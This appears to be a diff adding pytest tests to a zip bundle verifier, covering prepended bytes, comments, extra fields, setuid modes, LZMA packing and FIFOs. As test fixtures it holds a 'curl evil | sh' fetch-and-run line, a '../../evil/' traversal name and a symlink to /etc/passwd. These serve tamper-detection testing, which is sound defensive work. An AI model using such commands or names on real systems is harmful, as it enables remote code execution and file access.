@@ -38,6 +38,15 @@ def zipped(members: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
     return buffer.getvalue()
 
 
+def lzma_packed(members: dict[str, bytes]) -> bytes:
+    """A zip whose members are packed by LZMA, with properties that no stream has."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue().replace(b"\x5d\x00\x00", b"\xff\xff\xff")
+
+
 def kinds(path: Path) -> dict[str, str]:
     return {one.name: one.kind for one in verify(path).differences}
 
@@ -113,12 +122,84 @@ def test_a_name_that_stands_twice_is_told(tmp_path: Path) -> None:
     assert kinds(path) == {"a.txt": "added"}
 
 
+@pytest.mark.parametrize("name", ("run_me.sh/", "../../evil/", ""))
+def test_a_folder_and_a_member_without_a_name_are_told_as_added(tmp_path: Path, name: str) -> None:
+    path = written(tmp_path, WHOLE)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr(zipfile.ZipInfo(name), b"curl evil | sh")
+    assert kinds(path) == {name: "added"}
+
+
+def commented(data: bytes, comment: bytes) -> bytes:
+    """The zip with a comment of its own."""
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.comment = comment
+    return buffer.getvalue()
+
+
+def packed_otherwise(**fields: object) -> bytes:
+    """A zip of the same content, with something in each member's header that gradcheck never writes."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(WHOLE)) as whole, zipfile.ZipFile(buffer, "w") as archive:
+        for member in whole.infolist():
+            for field, value in fields.items():
+                setattr(member, field, value)
+            archive.writestr(member, whole.read(member.filename))
+    return buffer.getvalue()
+
+
+ADDED: dict[str, bytes] = {
+    "bytes before it": b"#!/bin/sh\ncurl evil | sh\n" + WHOLE,
+    "bytes after it": WHOLE + b"payload",
+    "a comment": commented(WHOLE, b"payload"),
+    "an extra field": packed_otherwise(extra=b"\xfe\xca\x04\x00evil"),
+    "a comment of a member": packed_otherwise(comment=b"payload"),
+    "another mode": packed_otherwise(external_attr=(stat.S_IFREG | 0o4777) << 16),
+}
+
+
+@pytest.mark.parametrize("data", ADDED.values(), ids=ADDED)
+def test_what_stands_around_the_files_is_no_part_of_the_bundle(tmp_path: Path, data: bytes) -> None:
+    assert kinds(written(tmp_path, data)) == {"bundle.zip": "altered"}
+
+
+def test_the_same_content_deflated_by_another_library_is_the_same_bundle(tmp_path: Path) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(WHOLE)) as whole, zipfile.ZipFile(buffer, "w", compresslevel=0) as archive:
+        for member in whole.infolist():
+            archive.writestr(member, whole.read(member.filename), compresslevel=0)
+    assert buffer.getvalue() != WHOLE
+    assert kinds(written(tmp_path, buffer.getvalue())) == {}
+
+
+def test_a_pipe_is_no_bundle_and_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "bundle.zip")
+    done = typed("verify", str(tmp_path / "bundle.zip"))
+    assert (done.code, done.out) == (2, "")
+    assert "is neither a file nor a folder" in done.err
+
+
+def test_a_member_in_another_packing_is_told_and_not_read(tmp_path: Path) -> None:
+    members = {**FILES, SUMS: sums(FILES).encode()}
+    del members["a.txt"]
+    buffer = io.BytesIO(zipped(members))
+    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_LZMA) as archive:
+        archive.writestr("a.txt", FILES["a.txt"])
+    assert kinds(written(tmp_path, buffer.getvalue())) == {"a.txt": "altered"}
+
+
 NO_BUNDLE: dict[str, tuple[bytes, str]] = {
     "no zip": (b"hello", "cannot be read as a zip"),
     "an empty file": (b"", "cannot be read as a zip"),
     "half a zip": (WHOLE[: len(WHOLE) // 2], "cannot be read as a zip"),
     "another zip": (zipped({"a.txt": b""}), f"holds no {SUMS}"),
     "hashes that are none": (zipped({SUMS: b"abc  a.txt\n"}), f"{SUMS}, line 1: expected a hash of 64 digits"),
+    "hashes of one name twice": (
+        zipped({SUMS: b"0" * 64 + b"  a.txt\n" + b"1" * 64 + b"  a.txt\n"}),
+        f"{SUMS}, line 2: expected each name once, found 'a.txt' again",
+    ),
+    "hashes in another packing": (lzma_packed({SUMS: b"x" * 90}), "another packing"),
     "hashes of nothing": (zipped({SUMS: b""}), "names no file"),
     "hashes that are no text": (zipped({SUMS: b"\xff\xfe"}), "cannot be read"),
     "hashes that are a link": (zipped({SUMS: b"/etc/passwd"}, links=(SUMS,)), "a link or a device"),
